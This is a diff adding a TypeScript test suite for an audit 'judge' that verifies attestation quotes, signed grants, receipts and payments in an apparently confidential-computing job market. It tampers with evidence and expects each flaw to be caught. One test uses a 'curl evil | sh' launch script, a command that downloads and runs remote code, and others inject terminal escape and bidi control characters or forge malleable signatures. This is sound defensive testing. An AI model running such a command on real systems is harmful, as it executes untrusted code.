@@ -1,0 +1,406 @@
+import { Encrypter, generateX25519Identity, identityToRecipient } from "age-encryption";
+import { expect } from "chai";
+import { bytesToHex, type Hex, hexToBytes, sha256, zeroAddress } from "viem";
+import { privateKeyToAccount } from "viem/accounts";
+import { intelRootKey } from "../../../protocol/deployment.ts";
+import { domainOf, hashGrant, hashReceipt } from "../../../protocol/eip712.ts";
+import { splitQuote } from "../../../protocol/quote/parseQuote.ts";
+import {
+  type Evidence,
+  isMissing,
+  type Registration,
+  type RegistrationCall,
+  type Settlement,
+} from "../../../sdk/audit/evidence.ts";
+import { gatherEvidence } from "../../../sdk/audit/gather/gatherEvidence.ts";
+import { judge } from "../../../sdk/audit/judge.ts";
+import { type Story, startStory } from "./story.ts";
+
+const other: Hex = `0x${"12".repeat(32)}`;
+const stranger = privateKeyToAccount(other);
+
+/** The parts of an honest job's evidence that are never missing in it. */
+type Whole = Omit<Evidence, "settlement" | "registration" | "ending"> & {
+  settlement: Settlement & { grants: Exclude<Settlement["grants"], { missing: string }> };
+  registration: Registration & { call: RegistrationCall };
+  ending: NonNullable<Evidence["ending"]>;
+};
+
+describe("judge", () => {
+  let story: Story;
+  let honest: Whole;
+  before(async () => {
+    story = await startStory();
+    await story.settle(await story.receiptOk());
+    const { chain, deployment, jobId, workerUrl, resultIdentity } = story;
+    const evidence = await gatherEvidence({ chain: chain.public, deployment, jobId, workerUrl, resultIdentity });
+    const { registration, settlement, ending } = evidence;
+    if (isMissing(registration) || isMissing(registration.call) || settlement === undefined || ending === undefined)
+      throw new Error("the story is not whole");
+    honest = evidence as Whole;
+  });
+  after(() => story.close());
+
+  /** Judges evidence after a change, and gives all lines that are not verified, with their reasons. */
+  function falseLines(change: (evidence: Whole) => void): Record<string, string> {
+    const evidence = structuredClone(honest);
+    change(evidence);
+    const lines = judge(evidence).filter((line) => line.verdict === "not verified");
+    return Object.fromEntries(lines.map((line) => [line.id, line.reason]));
+  }
+
+  /** Verdict and reason of one line after a change. */
+  function lineOf(id: string, change: (evidence: Whole) => void): string {
+    const evidence = structuredClone(honest);
+    change(evidence);
+    const line = judge(evidence).find((found) => found.id === id);
+    return `${line?.verdict}: ${line?.reason}`;
+  }
+
+  /** Shows a changed compose file, and a truly signed quote that measured it. */
+  const withCompose = (change: object) => (e: Whole) => {
+    const appCompose = JSON.stringify({ ...JSON.parse(story.shown.appCompose), ...change });
+    Object.assign(e.worker.attestation, { appCompose });
+    const mrConfigId = new Uint8Array(48);
+    mrConfigId.set([1]);
+    mrConfigId.set(hexToBytes(sha256(new TextEncoder().encode(appCompose))), 1);
+    e.registration.call.quote = splitQuote(story.platform.quote(new Uint8Array(64), { mrConfigId }));
+  };
+
+  it("finds nothing false in honest evidence, and says the same twice", () => {
+    expect(falseLines(() => {})).to.deep.equal({});
+    expect(judge(honest)).to.deep.equal(judge(honest));
+  });
+
+  it("order: another hash, state, index, parameters, contracts", () => {
+    expect(falseLines((e) => (e.opening.order.nonce += 1n))).to.deep.equal({ "order.id": "its hash is another" });
+    expect(falseLines((e) => (e.state = "Open"))).to.deep.equal({
+      "order.state": "stored Open, the events say SettledOk",
+    });
+    expect(falseLines((e) => (e.ending.index = 9n))).to.deep.equal({
+      "order.state": "opened and ended under different indices",
+    });
+    expect(falseLines((e) => (e.opening.params = "0x7b20"))).to.deep.equal({
+      "order.params": "they have another hash",
+    });
+    const wiring = (change: (e: Whole) => void) => falseLines(change)["order.contracts"];
+    expect(wiring((e) => (e.wiring.enclaves = stranger.address))).to.equal("the market asks another enclave registry");
+    expect(wiring((e) => (e.wiring.datasets = stranger.address))).to.equal("the market asks another data set registry");
+    expect(wiring((e) => (e.wiring.verifier = stranger.address))).to.equal("the registry asks another verifier");
+    expect(wiring((e) => (e.wiring.rootKey = intelRootKey))).to.equal("the verifier pins another root key");
+  });
+
+  it("attestation: every altered part of the quote, its certificates and its binding", () => {
+    const quote = (change: (core: Uint8Array) => void) => (e: Whole) => {
+      const core = hexToBytes(e.registration.call.quote.quote);
+      change(core);
+      e.registration.call.quote.quote = bytesToHex(core);
+    };
+    const signature = (change: (e: Whole) => void) => falseLines(change)["attestation.signature"];
+    const altered = "Quote refused, TD signature: not valid.";
+    expect(signature(quote((core) => core.fill(7, 48 + 136, 48 + 140)))).to.equal(altered);
+    expect(signature(quote((core) => core.fill(7, 700, 704)))).to.equal("Quote refused, QE binding: another key.");
+    expect(signature((e) => (e.registration.call.quote.quote = "0x04"))).to.match(/^Quote is malformed: size: 1 bytes/);
+    expect(signature((e) => (e.registration.call.quote.pckLeaf = "0x"))).to.match(/^Malformed DER in certificate/);
+    expect(signature((e) => (e.registration.platformId = other))).to.equal("the registration names another platform");
+    expect(signature((e) => (e.registration.expiresAt = 2n ** 40n))).to.equal(
+      "the registration outlives the certificates",
+    );
+    const debug = story.platform.quote(new Uint8Array(64), { tdAttributes: Uint8Array.of(1, 0, 0, 16, 0, 0, 0, 0) });
+    expect(signature((e) => (e.registration.call.quote = splitQuote(debug)))).to.equal(
+      "Quote refused, debug attribute: the host may read the VM's memory.",
+    );
+    expect(signature((e) => (e.registration.block.timestamp = 0n))).to.match(/^Quote refused, issuer dates/);
+  });
+
+  it("attestation: each field that the report data bind", () => {
+    const binding = (change: (e: Whole) => void) => falseLines(change)["attestation.binding"];
+    const unbound = "the report data bind something else";
+    expect(binding((e) => (e.deployment.chainId = 1))).to.equal(unbound);
+    expect(binding((e) => (e.deployment.contracts.enclaveRegistry = stranger.address))).to.equal(unbound);
+    expect(binding((e) => (e.registration.call.operator = stranger.address))).to.equal(unbound);
+    expect(binding((e) => (e.registration.call.signingKey = stranger.address))).to.equal(unbound);
+    expect(binding((e) => (e.registration.call.vaultKey = other))).to.equal(unbound);
+    expect(binding((e) => (e.registration.call.blockNumber += 1n))).to.equal(unbound);
+    expect(binding((e) => Object.assign(e.registration.call.boundBlock, { hash: other }))).to.equal(unbound);
+    const stale = "the quote is not fresh";
+    expect(binding((e) => (e.registration.block.number = e.registration.call.blockNumber + 257n))).to.equal(stale);
+    expect(binding((e) => (e.registration.block.number = e.registration.call.blockNumber))).to.equal(stale);
+    const unsigned = "the registration is not signed by the key it names";
+    expect(binding((e) => (e.registration.call.endpoint = "https://elsewhere.example"))).to.equal(unsigned);
+    expect(binding((e) => (e.registration.call.signature = "0x"))).to.equal(unsigned);
+    expect(binding((e) => (e.registration.operator = stranger.address))).to.equal("another operator was recorded");
+    expect(binding((e) => (e.registration.vaultKey = other))).to.equal("another vault key was recorded");
+    expect(binding((e) => (e.registration.signingKey = stranger.address))).to.equal("another signing key was recorded");
+  });
+
+  it("attestation: another workload, an expired or later registration, a storage that disagrees", () => {
+    const workload = (change: (e: Whole) => void) => falseLines(change)["attestation.workload"];
+    expect(workload((e) => (e.opening.order.workloadId = other))).to.match(/^the quote measures workload 0x/);
+    expect(workload((e) => (e.registration.workloadId = other))).to.equal("the registration names another workload");
+    expect(workload((e) => (e.settlement.receipt.workloadId = other))).to.equal("the receipt names another workload");
+    const zero = story.platform.quote(new Uint8Array(64), { mrConfigId: new Uint8Array(48) });
+    expect(workload((e) => (e.registration.call.quote = splitQuote(zero)))).to.equal(
+      "MRCONFIGID is zero: nothing binds the VM to a compose file.",
+    );
+    const live = (change: (e: Whole) => void) => falseLines(change)["attestation.live"];
+    expect(live((e) => (e.registration.expiresAt = e.ending.block.timestamp))).to.equal("it had expired");
+    expect(live((e) => (e.registration.block.number = e.ending.block.number + 1n))).to.equal(
+      "it was registered after the settlement",
+    );
+    expect(live((e) => (e.settlement.signer = stranger.address))).to.equal("the receipt's signer is another key");
+    const unknown = { missing: "the registry's storage does not know the key" };
+    expect(live((e) => (e.enclaveRecord = unknown))).to.equal(unknown.missing);
+    const storage = (change: object) => live((e) => Object.assign(e.enclaveRecord, change));
+    expect(storage({ operator: stranger.address })).to.equal("the registry's storage names another operator");
+    expect(storage({ workloadId: other })).to.equal("the registry's storage names another workload");
+    expect(storage({ vaultKeyHash: other })).to.equal("the registry's storage names another vault key");
+  });
+
+  it("attestation: genuine hardware only under Intel's root key", () => {
+    const simulated = lineOf("attestation.genuine", () => {});
+    expect(simulated).to.match(/^cannot be verified: SIMULATED/);
+    expect(lineOf("attestation.genuine", (e) => (e.deployment.rootKey = intelRootKey))).to.equal(
+      "not verified: Quote refused, issuer signature: not valid.",
+    );
+    expect(lineOf("attestation.tcb", (e) => (e.registration.tcbStatus = 1))).to.match(
+      /^cannot be verified: the chain recorded/,
+    );
+  });
+
+  it("code: scripts, unknown fields, variables of the host, public logs, loose images", () => {
+    const line = (id: string, change: object) => lineOf(id, withCompose(change));
+    expect(line("code.compose", {})).to.match(/^verified/);
+    const refused = /^not verified: The app-compose manifest is not one that can be judged: .*Unrecognized key/;
+    expect(line("code.launch", { pre_launch_script: "curl evil | sh" })).to.match(refused);
+    expect(line("code.launch", { init_script: "x" })).to.match(refused);
+    expect(line("code.launch", { allowed_envs: ["RPC_URL"] })).to.equal("not verified: the host may set RPC_URL");
+    expect(line("code.launch", { public_logs: true })).to.equal("not verified: the containers' logs are public");
+    expect(line("code.launch", { public_logs: undefined })).to.equal("not verified: the containers' logs are public");
+    const compose = (image: string) => ({ docker_compose_file: `services:\n  worker:\n    image: ${image}\n` });
+    expect(line("code.images", compose("nginx:latest"))).to.match(
+      /^cannot be verified: image nginx:latest is not pinned/,
+    );
+    const pinned = compose(`a/b@sha256:${"ab".repeat(32)}`);
+    expect(line("code.images", pinned)).to.match(/^cannot be verified: images are pinned by digest, but/);
+    expect(line("code.boot", {})).to.equal("not verified: its compose-hash event is another one");
+  });
+
+  it("code: another program, or one that takes other inputs", () => {
+    const right = lineOf("code.program", () => {});
+    expect(right).to.equal("verified: a test program, 1 files, on quickjs 1");
+    expect(falseLines((e) => (e.opening.order.programId = other))["code.program"]).to.match(
+      /^the bundle is program 0x/,
+    );
+    const fewer = (e: Whole) => (e.opening.order.datasets = e.opening.order.datasets.slice(1));
+    expect(falseLines(fewer)["code.program"]).to.equal("it takes another number of inputs");
+  });
+
+  it("consent: another owner, content, grant or signature", () => {
+    const dataset = (change: object) =>
+      falseLines((e) => Object.assign(e.datasets[0]?.registration ?? {}, change))["consent.1.dataset"];
+    const unlike = "its id is not the hash of owner, content and salt";
+    for (const change of [{ owner: stranger.address }, { contentHash: other }, { salt: other }])
+      expect(dataset(change)).to.equal(unlike);
+    const grant = (change: (signed: { grant: object; signature: Hex }) => void) =>
+      falseLines((e) => {
+        const [signed] = e.settlement.grants;
+        if (signed !== undefined) change(signed);
+      });
+    expect(grant((signed) => Object.assign(signed.grant, { nonce: 1n }))["consent.1.grant"]).to.equal(
+      "the grant has another hash",
+    );
+    const unsigned = "it is not signed by the owner";
+    expect(grant((signed) => (signed.signature = "0x"))["consent.1.grant"]).to.equal(unsigned);
+    const swapped = falseLines((e) => e.settlement.grants.reverse());
+    expect(swapped["consent.1.grant"]).to.equal("the grant has another hash");
+    expect(swapped["consent.2.terms"]).to.equal("it is for another data set");
+  });
+
+  it("consent: a stranger's signature, a high s, and a contract's word", async () => {
+    const { deployment } = story;
+    const signed = honest.settlement.grants[0];
+    if (signed === undefined) throw new Error("no grant");
+    const hash = hashGrant(domainOf(deployment.chainId, deployment.contracts.jobMarket), signed.grant);
+    const foreign = await stranger.sign({ hash });
+    const withSignature =
+      (signature: Hex, contractAccepts = false) =>
+      (e: Whole) => {
+        const [first] = e.settlement.grants;
+        if (first !== undefined) first.signature = signature;
+        Object.assign(e.datasets[0] ?? {}, { contractAccepts });
+      };
+    expect(lineOf("consent.1.grant", withSignature(foreign))).to.equal("not verified: it is not signed by the owner");
+    expect(lineOf("consent.1.grant", withSignature(highS(signed.signature)))).to.match(/^not verified/);
+    expect(lineOf("consent.1.grant", withSignature("0x1234", true))).to.match(
+      /^verified: .* is a contract, and accepts/,
+    );
+  });
+
+  it("consent: terms that are not the order's, one by one", () => {
+    const terms = (change: object) =>
+      falseLines((e) => Object.assign(e.settlement.grants[0]?.grant ?? {}, change))["consent.1.terms"];
+    expect(terms({ datasetId: other })).to.equal("it is for another data set");
+    expect(terms({ programId: other })).to.equal("it is for another program");
+    expect(terms({ workloadId: other })).to.equal("it is for another workload");
+    expect(terms({ requester: stranger.address })).to.equal("it is for another requester");
+    expect(terms({ operator: stranger.address })).to.equal("it is for another operator");
+    expect(terms({ token: zeroAddress })).to.equal("it is for another token");
+    expect(terms({ pricePerUse: 1n })).to.equal("it is for another price");
+  });
+
+  it("consent: out of date, or revoked before the anchor or the settlement", () => {
+    const force = (change: (e: Whole) => void) => falseLines(change)["consent.1.force"];
+    const grant = (change: object) => force((e) => Object.assign(e.settlement.grants[0]?.grant ?? {}, change));
+    const { timestamp } = honest.receiptAnchor as { timestamp: bigint };
+    expect(grant({ notBefore: timestamp + 1n })).to.equal("it was not valid at the time of the anchor block");
+    expect(force((e) => (e.ending.block.timestamp = 2n ** 60n))).to.equal(
+      "it was not valid at the time of the settlement",
+    );
+    expect(grant({ epoch: 1 })).to.equal("all grants of its epoch were revoked before the anchor block");
+    const at = (number: bigint, logIndex = 0) => ({ block: { ...honest.anchor, number }, logIndex });
+    const anchor = honest.settlement.receipt.anchorBlock;
+    const settled = honest.ending.block.number;
+    const epoch = (where: object) => force((e) => e.datasets[0]?.epochs.push({ ...where, newEpoch: 1 } as never));
+    expect(epoch(at(anchor))).to.equal("all grants of its epoch were revoked before the anchor block");
+    expect(epoch(at(anchor + 1n))).to.equal("all grants of its epoch were revoked before the settlement");
+    expect(epoch(at(settled + 1n))).to.equal(undefined);
+    const nonce = (where: object) => force((e) => e.datasets[0]?.nonceRevocations.push(where as never));
+    expect(nonce(at(anchor))).to.equal("it was revoked before the anchor block");
+    expect(nonce(at(settled, -1))).to.equal("it was revoked before the settlement");
+    expect(nonce(at(settled, honest.ending.logIndex + 1))).to.equal(undefined);
+  });
+
+  it("receipt: unsigned, malleable, or of another signer", async () => {
+    const { deployment } = story;
+    const digest = hashReceipt(domainOf(deployment.chainId, deployment.contracts.jobMarket), honest.settlement.receipt);
+    const foreign = await stranger.sign({ hash: digest });
+    const signature = (change: (e: Whole) => void) => falseLines(change)["receipt.signature"];
+    const unsigned = "the signature is not one by the named signer";
+    for (const bad of ["0x", foreign, highS(honest.settlement.signature), `${honest.settlement.signature}00`] as Hex[])
+      expect(signature((e) => (e.settlement.signature = bad))).to.equal(unsigned);
+    expect(signature((e) => (e.settlement.receipt.fuelUsed += 1n))).to.equal(unsigned);
+    expect(signature((e) => Object.assign(e.settlement, { signature: foreign, signer: stranger.address }))).to.equal(
+      "the signer is not the registered key",
+    );
+    const unregistered = { missing: "the key was never registered" };
+    expect(signature((e) => Object.assign(e, { registration: unregistered }))).to.match(/never registered$/);
+  });
+
+  it("receipt: each field that is not the order's, and contradictions", () => {
+    const fields = (change: object) => falseLines((e) => Object.assign(e.settlement.receipt, change))["receipt.order"];
+    expect(fields({ jobId: other })).to.equal("it is for another job");
+    expect(fields({ programId: other })).to.equal("it is for another program");
+    expect(fields({ workloadId: other })).to.equal("it is for another workload");
+    expect(fields({ paramsHash: other })).to.equal("it is for other parameters");
+    expect(fields({ status: 0 })).to.equal("its status is neither Ok nor Failed");
+    expect(fields({ failureCode: 99 })).to.equal("its failure code is unknown");
+    const contradiction = "status, failure code and result contradict each other";
+    expect(fields({ failureCode: 1 })).to.equal(contradiction);
+    expect(fields({ status: 2 })).to.equal(contradiction);
+    expect(fields({ resultHash: `0x${"00".repeat(32)}` })).to.equal(contradiction);
+    const line = (id: string, change: object) => falseLines((e) => Object.assign(e.settlement.receipt, change))[id];
+    expect(line("receipt.inputs", { inputsRoot: other })).to.equal("inputsRoot is another");
+    expect(line("receipt.grants", { grantsRoot: other })).to.equal("grantsRoot is another");
+    expect(line("receipt.policy", { policyHash: other })).to.equal("policyHash is another");
+    expect(line("receipt.anchor", { anchorHash: other })).to.equal("the chain has another block there");
+    expect(line("receipt.anchor", { anchorBlock: 1n })).to.equal("the anchor is another block");
+    const late = falseLines((e) => (e.ending.block.number = e.settlement.receipt.anchorBlock));
+    expect(late["receipt.anchor"]).to.equal("the anchor is not before the settlement");
+    const reordered = falseLines((e) => {
+      e.datasets.reverse();
+      e.opening.order.datasets = [...e.opening.order.datasets].reverse();
+    });
+    expect(reordered["receipt.inputs"]).to.equal("inputsRoot is another");
+    expect(reordered["receipt.grants"]).to.equal("grantsRoot is another");
+  });
+
+  it("result: another ciphertext, a further reader, another output", async () => {
+    const encrypter = new Encrypter();
+    for (let count = 0; count < 3; count++)
+      encrypter.addRecipient(await identityToRecipient(await generateX25519Identity()));
+    const third = await encrypter.encrypt("{}");
+    const swap = (bytes: Uint8Array) => (e: Whole) => {
+      e.worker.result = bytes;
+      e.settlement.receipt.resultHash = sha256(bytes);
+    };
+    expect(falseLines((e) => (e.worker.result = third))["result.sealed"]).to.equal("it has another SHA-256");
+    expect(falseLines(swap(third))["result.readers"]).to.equal("it is sealed to 3 readers, 2 are agreed");
+    expect(falseLines(swap(new Uint8Array(9)))["result.readers"]).to.equal("it is not an age file");
+    const output = (opened: Evidence["opened"]) => lineOf("result.output", (e) => (e.opened = opened));
+    expect(output({ commitment: other })).to.equal("not verified: its commitment is another");
+    expect(output({ problem: "what is sealed is no result" })).to.equal("not verified: what is sealed is no result");
+  });
+
+  it("money: too little escrowed, paid to others, twice, elsewhere or in another token", () => {
+    const paid = (change: (e: Whole) => void) => falseLines(change)["money.paid"];
+    expect(falseLines((e) => (e.opening.moved = []))["money.escrow"]).to.equal("no transfer of 2500001 to the market");
+    const [first] = honest.credits;
+    if (first === undefined) throw new Error("no credits");
+    const owner = first.account.toLowerCase();
+    expect(paid((e) => e.credits.shift())).to.equal(`${owner} was credited 0, not 1000000`);
+    expect(paid((e) => e.credits.push(first))).to.equal(`${owner} was credited 2000000, not 1000000`);
+    expect(paid((e) => Object.assign(e.credits[0] ?? {}, { account: stranger.address }))).to.match(
+      /was credited 0, not 1000000$/,
+    );
+    expect(paid((e) => Object.assign(e.credits[0] ?? {}, { token: zeroAddress }))).to.equal(
+      "another token was credited",
+    );
+    expect(paid((e) => Object.assign(e.credits[0] ?? {}, { transactionHash: other }))).to.equal(
+      "money was credited in another transaction",
+    );
+    const native = (change: object) =>
+      lineOf("money.escrow", (e) =>
+        Object.assign(e.opening, { moved: { missing: "through a wallet contract" } }, change),
+      );
+    expect(native({})).to.equal("cannot be verified: through a wallet contract");
+  });
+
+  it("says what is missing instead of failing when evidence is not there", () => {
+    const missing = { missing: "not here" };
+    const evidence: Evidence = {
+      ...honest,
+      settlement: { ...honest.settlement, grants: missing },
+      registration: { ...honest.registration, call: missing },
+      receiptAnchor: missing,
+      program: missing,
+      worker: { attestation: missing, result: missing },
+      opened: missing,
+    };
+    const lines = judge(evidence);
+    expect(lines.filter((line) => line.verdict === "not verified")).to.deep.equal([]);
+    for (const id of [
+      "attestation.signature",
+      "attestation.binding",
+      "code.compose",
+      "consent.1.grant",
+      "receipt.anchor",
+    ])
+      expect(lines.find((line) => line.id === id)).to.include({ verdict: "cannot be verified", reason: "not here" });
+  });
+
+  it("takes times past what a date holds", () => {
+    const far = 2n ** 64n - 1n;
+    expect(lineOf("attestation.live", (e) => (e.registration.expiresAt = far))).to.match(
+      /^verified: .*after the year 9999$/,
+    );
+    const forever = (e: Whole) => Object.assign(e.settlement.grants[0]?.grant ?? {}, { notAfter: far });
+    expect(lineOf("consent.1.force", forever)).to.match(/to after the year 9999, not revoked before$/);
+  });
+
+  it("makes strangers' text harmless", () => {
+    const shown = lineOf("code.launch", withCompose({ allowed_envs: ["\u001b[31m\u202e".repeat(300)] }));
+    expect(shown).to.match(/^not verified: the host may set/);
+    expect(shown).to.not.match(/\p{Cc}|\p{Cf}/u);
+    const uri = lineOf("code.program", (e) => (e.program = { missing: "\u001b[2J".repeat(500) }));
+    expect(uri).to.not.match(/\p{Cc}/u);
+    expect(uri.length).to.be.lessThan(450);
+  });
+});
+
+/** The other valid s of an ECDSA signature. */
+function highS(signature: Hex): Hex {
+  const order = 0xfffffffffffffffffffffffffffffffebaaedce6af48a03bbfd25e8cd0364141n;
+  const s = (order - BigInt(`0x${signature.slice(66, 130)}`)).toString(16).padStart(64, "0");
+  return `${signature.slice(0, 66)}${s}${signature.endsWith("1b") ? "1c" : "1b"}` as Hex;
+}
